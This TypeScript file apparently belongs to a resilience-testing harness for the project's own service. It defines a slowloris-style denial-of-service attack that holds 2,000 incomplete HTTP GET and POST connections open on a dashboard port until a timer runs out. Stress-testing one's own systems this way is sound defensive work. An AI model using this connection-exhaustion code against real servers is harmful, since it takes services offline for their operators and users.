import type { Attack } from '../attack-definition.ts';
import { connectSteadily } from '../attack-sockets.ts';

const connections = { full: 2_000, small: 500 };

/** Incomplete requests to the dashboard. */
export const dashboardHeads: Attack = {
  name: 'dashboard',
  words: '2,000 heads and bodies that never end on the port of the dashboard',
  targets: ['standalone'],
  refusals: [],
  probes: ['dashboard'],
  async run(context) {
    const { dashboardPort } = context.addresses;
    if (dashboardPort === undefined) return;
    const sockets = await connectSteadily(dashboardPort, connections[context.size]);
    for (const [i, socket] of sockets.entries()) {
      socket.write(
        i % 2 === 0 ? 'GET / HTTP/1.1\r\nHost: x\r\n' : 'POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 99999\r\n\r\nx',
      );
    }
    while (!context.isExpired()) await context.sleep(100);
    for (const socket of sockets) socket.close();
  },
};
